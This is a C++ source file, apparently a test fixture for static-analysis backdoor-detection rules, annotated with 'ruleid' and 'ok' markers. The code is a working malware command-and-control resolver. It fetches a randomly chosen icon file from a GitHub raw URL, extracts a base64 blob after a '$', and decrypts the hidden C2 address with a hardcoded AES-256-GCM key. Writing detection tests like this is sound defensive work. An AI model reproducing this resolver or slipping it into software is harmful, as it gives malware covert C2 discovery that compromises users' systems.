// The icon files on a public code host carry the C2 address after a '$', AES-256-GCM encrypted.
#include <openssl/evp.h>
#include <random>
#include "iconic.hpp"

namespace dtapp {

namespace {
const std::array<std::uint8_t, 32> kIconKey = {
    0x6e, 0x1d, 0xa4, 0x38, 0xc2, 0x5f, 0x97, 0x0b, 0xe1, 0x73, 0x2c, 0x88, 0x4a, 0xf6, 0x19, 0xd0,
    0x35, 0xbe, 0x62, 0x07, 0x9c, 0x41, 0xfa, 0x2e, 0x83, 0x5b, 0xc9, 0x16, 0x70, 0xad, 0x04, 0xe7};
constexpr const char *kIconBase = "https://raw.githubusercontent.com/IconStorages/images/main/icon";
}

IconStore::IconStore(const Http &http) : http_(http) {}

std::optional<std::string> IconStore::open_icon(const std::string &raw) const {
  auto dollar = raw.rfind('$');
  if (dollar == std::string::npos) return std::nullopt;
  auto blob = b64decode(std::string_view(raw).substr(dollar + 1));
  if (!blob || blob->size() < 12 + 16 + 1) return std::nullopt;
  std::span<const std::uint8_t> all(*blob);
  auto nonce = all.first(12);
  auto tag = all.last(16);
  auto body = all.subspan(12, all.size() - 28);
  std::string url(body.size(), '\0');
  EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
  int n = 0;
  // ok: backdoor-weak-cipher, backdoor-null-cipher
  EVP_DecryptInit_ex(ctx, EVP_aes_256_gcm(), nullptr, nullptr, nullptr);
  // ruleid: backdoor-hardcoded-key
  // ok: backdoor-hardcoded-iv
  EVP_DecryptInit_ex(ctx, nullptr, nullptr, kIconKey.data(), nonce.data());
  EVP_DecryptUpdate(ctx, reinterpret_cast<unsigned char *>(url.data()), &n, body.data(),
                    static_cast<int>(body.size()));
  EVP_CIPHER_CTX_ctrl(ctx, EVP_CTRL_GCM_SET_TAG, 16, const_cast<std::uint8_t *>(tag.data()));
  int fin = 0;
  int ok = EVP_DecryptFinal_ex(ctx, nullptr, &fin);
  EVP_CIPHER_CTX_free(ctx);
  if (ok != 1) return std::nullopt;
  url.resize(static_cast<size_t>(n));
  return url;
}

std::optional<std::string> IconStore::c2_url() {
  std::random_device rd;
  std::mt19937 gen(rd());
  std::uniform_int_distribution<int> pick(1, 15);
  // ok: backdoor-predictable-random
  int icon_no = pick(gen);
  auto raw = http_.get(std::string(kIconBase) + std::to_string(icon_no) + ".ico");
  if (!raw) return std::nullopt;
  return open_icon(*raw);
}

} // namespace dtapp
